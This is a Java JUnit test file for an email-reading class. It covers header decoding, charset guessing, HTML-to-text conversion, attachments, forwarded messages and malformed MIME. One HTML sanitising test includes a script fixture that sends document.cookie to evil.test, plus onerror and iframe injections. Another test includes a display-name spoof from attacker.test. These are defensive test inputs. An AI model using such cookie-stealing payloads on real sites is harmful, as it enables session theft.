package org.focalpoint.mailbox.reading;

import org.junit.jupiter.api.Test;

import java.nio.charset.Charset;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class MailTextTest {

    @Test
    void aPlainMailGivesItsSenderSubjectIdDateAndText() {
        MailText mail = Mails.text("""
                From: "Doe, Jane" <Jane.Doe@Example.org>
                To: tsbdir@itu.int
                Subject: =?UTF-8?Q?Opt-in_=E2=80=93_Example_Telecom?=
                Message-ID: <abc.123@mail.example.org>
                Date: Tue, 3 Mar 2026 10:15:00 +0100
                Content-Type: text/plain; charset=UTF-8
                Content-Transfer-Encoding: 8bit

                Dear Sir/Madam,
                We wish to opt in.
                """);
        assertEquals("jane.doe@example.org", mail.sender().address());
        assertEquals("Doe, Jane", mail.sender().displayName());
        assertEquals("Opt-in – Example Telecom", mail.subject());
        assertEquals("<abc.123@mail.example.org>", mail.messageId());
        assertEquals(Instant.parse("2026-03-03T09:15:00Z"), mail.sentAt());
        assertEquals("Dear Sir/Madam,\nWe wish to opt in.", mail.text());
        assertFalse(mail.isMalformed());
        assertTrue(mail.attachments().isEmpty());
    }

    @Test
    void aMailWithoutMessageIdOrFromSaysSoWithNulls() {
        MailText mail = Mails.text("""
                Subject: hello

                text
                """);
        assertNull(mail.messageId());
        assertNull(mail.sender().address());
        assertNull(mail.sentAt());
        assertEquals("text", mail.text());
    }

    @Test
    void plainTextIsPreferredToHtmlInAnAlternative() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                MIME-Version: 1.0
                Content-Type: multipart/alternative; boundary="b1"

                --b1
                Content-Type: text/html; charset=UTF-8

                <p>the <b>HTML</b> version</p>
                --b1
                Content-Type: text/plain; charset=UTF-8

                the plain version
                --b1--
                """);
        assertEquals("the plain version", mail.text());
    }

    @Test
    void anEmptyPlainAlternativeFallsBackToTheHtml() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                MIME-Version: 1.0
                Content-Type: multipart/alternative; boundary="b1"

                --b1
                Content-Type: text/plain; charset=UTF-8

                \s
                --b1
                Content-Type: text/html; charset=UTF-8

                <div>line one</div><div>line two</div>
                --b1--
                """);
        assertEquals("line one\nline two", mail.text());
    }

    @Test
    void htmlKeepsNoMarkupNoScriptAndNoStyle() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                Content-Type: text/html; charset=UTF-8

                <html><head><style>p{color:red}</style><script>alert('head')</script></head>
                <body><p>Dear Sir/Madam,</p><script type="text/javascript">document.location='http://evil.test/'+document.cookie</script>
                <p onclick="steal()">We wish to <i>opt&nbsp;in</i>.<br>Regards,<br>Jane &lt;b&gt;Doe&lt;/b&gt;</p>
                <img src="http://evil.test/pixel.gif" onerror="alert(1)"><iframe src="http://evil.test/"></iframe></body></html>
                """);
        assertEquals("Dear Sir/Madam,\nWe wish to opt in.\nRegards,\nJane <b>Doe</b>", mail.text());
        assertFalse(mail.text().contains("alert"));
        assertFalse(mail.text().contains("evil"));
        assertFalse(mail.text().contains("color"));
    }

    @Test
    void anHtmlBlockquoteBecomesQuotedLines() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                Content-Type: text/html; charset=UTF-8

                <div>Thanks!</div><div class="gmail_quote"><div>On Mon, 2 Mar 2026, TSB wrote:</div>
                <blockquote><div>We have enabled it.</div><div>Best</div></blockquote></div>
                """);
        assertEquals("Thanks!\nOn Mon, 2 Mar 2026, TSB wrote:\n> We have enabled it.\n> Best", mail.text());
    }

    @Test
    void latin1AndWindows1252BodiesAreReadRight() {
        byte[] latin1 = """
                From: a@example.org
                Subject: x
                Content-Type: text/plain; charset=ISO-8859-1
                Content-Transfer-Encoding: 8bit

                Au nom de Société Générale des Télécommunications, je souhaite adhérer à l'approbation automatique.
                """.replace("\n", "\r\n").getBytes(Charset.forName("ISO-8859-1"));
        assertEquals("Au nom de Société Générale des Télécommunications, je souhaite adhérer à l'approbation automatique.",
                MailText.of(Mails.raw(latin1)).text());

        byte[] cp1252 = """
                From: a@example.org
                Subject: x
                Content-Type: text/plain; charset=windows-1252
                Content-Transfer-Encoding: quoted-printable

                I wish to =93opt in=94 =96 thanks
                """.replace("\n", "\r\n").getBytes(Charset.forName("ISO-8859-1"));
        assertEquals("I wish to “opt in” – thanks", MailText.of(Mails.raw(cp1252)).text());
    }

    @Test
    void undeclaredOrWronglyDeclaredCharsetsAreGuessedAndNoted() {
        byte[] undeclared = "From: a@example.org\r\nSubject: x\r\n\r\nretir\u00e9\r\n".getBytes(Charset.forName("ISO-8859-1"));
        assertEquals("retiré", MailText.of(Mails.raw(undeclared)).text());

        byte[] unknown = "From: a@example.org\r\nSubject: x\r\nContent-Type: text/plain; charset=x-martian\r\n\r\nretir\u00e9\r\n"
                .getBytes(Charset.forName("ISO-8859-1"));
        MailText mail = MailText.of(Mails.raw(unknown));
        assertEquals("retiré", mail.text());
        assertEquals(List.of("Unknown charset \"x-martian\": the text was read as windows-1252"), mail.notes());
        assertFalse(mail.isMalformed());
    }

    @Test
    void formatFlowedLinesAreJoined() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                Content-Type: text/plain; charset=UTF-8; format=flowed

                On behalf of Example Telecom, I wish to opt in to\s
                automatic approval.

                Jane Doe
                """);
        assertEquals("On behalf of Example Telecom, I wish to opt in to automatic approval.\n\nJane Doe", mail.text());
    }

    @Test
    void attachmentsAreNamedNotRead() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="m"

                --m
                Content-Type: text/plain; charset=UTF-8

                Please see the attached letter.
                --m
                Content-Type: application/pdf; name="letter.pdf"
                Content-Disposition: attachment; filename="letter.pdf"
                Content-Transfer-Encoding: base64

                JVBERi0xLjQK
                --m
                Content-Type: text/plain; name="notes.txt"
                Content-Disposition: attachment; filename="notes.txt"

                opt out
                --m--
                """);
        assertEquals("Please see the attached letter.", mail.text());
        assertEquals(List.of("letter.pdf (application/pdf)", "notes.txt (text/plain)"), mail.attachments());
    }

    @Test
    void aForwardedMessageIsReadUnderAForwardHeader() {
        MailText mail = Mails.text("""
                From: assistant@example.org
                Subject: Fwd: opt in
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="m"

                --m
                Content-Type: text/plain; charset=UTF-8

                Forwarding on behalf of our DFP.
                --m
                Content-Type: message/rfc822

                From: Jane Doe <jane@example.org>
                Date: Mon, 2 Mar 2026 09:00:00 +0100
                Subject: opt in
                Content-Type: text/plain; charset=UTF-8

                We wish to opt in.
                --m--
                """);
        assertEquals("""
                Forwarding on behalf of our DFP.

                ---------- Forwarded message ---------
                From: Jane Doe <jane@example.org>
                Date: Mon, 2 Mar 2026 09:00:00 +0100
                Subject: opt in

                We wish to opt in.""", mail.text());
    }

    @Test
    void brokenMimeIsMalformedWithAReasonNotAnException() {
        MailText mail = Mails.text("""
                From: a@example.org
                Subject: x
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="declared"

                --other
                Content-Type: text/plain

                text
                --other--
                """);
        assertTrue(mail.isMalformed(), mail.toString());
        assertTrue(mail.malformed().startsWith("The MIME structure cannot be read: "), mail.malformed());

        MailText badEncoding = Mails.text("""
                From: a@example.org
                Subject: x
                Content-Type: text/plain
                Content-Transfer-Encoding: x-martian

                text
                """);
        assertTrue(badEncoding.isMalformed(), badEncoding.toString());
    }

    @Test
    void rawBytesAsFetchedFromAMailboxAreReadTheSameWay() {
        MailText mail = MailText.of("From: Jane <jane@example.org>\r\nSubject: opt in\r\n\r\nWe wish to opt in.\r\n"
                .getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        assertEquals("jane@example.org", mail.sender().address());
        assertEquals("We wish to opt in.", mail.text());
        assertFalse(mail.isMalformed());
    }

    @Test
    void aLostConnectionWhileReadingIsThrownToBeRetriedNotCalledMalformed() {
        jakarta.mail.internet.MimeMessage fetching = new jakarta.mail.internet.MimeMessage((jakarta.mail.Session) null) {
            @Override
            public Object getContent() throws jakarta.mail.MessagingException {
                throw new jakarta.mail.FolderClosedException(null, "connection lost");
            }

            @Override
            public String getContentType() {
                return "multipart/mixed; boundary=x";
            }
        };
        org.junit.jupiter.api.Assertions.assertThrows(IllegalStateException.class, () -> MailText.of(fetching));
    }

    @Test
    void aDisplayNameShowingAnotherAddressIsNoticed() {
        MailText mail = Mails.text("""
                From: "tsbdir@itu.int" <someone@attacker.test>
                Subject: x

                text
                """);
        assertEquals("tsbdir@itu.int", mail.sender().displayedOtherAddress());
        assertNull(new MailSender("jane@example.org", "Jane Doe (jane@example.org)").displayedOtherAddress());
    }
}
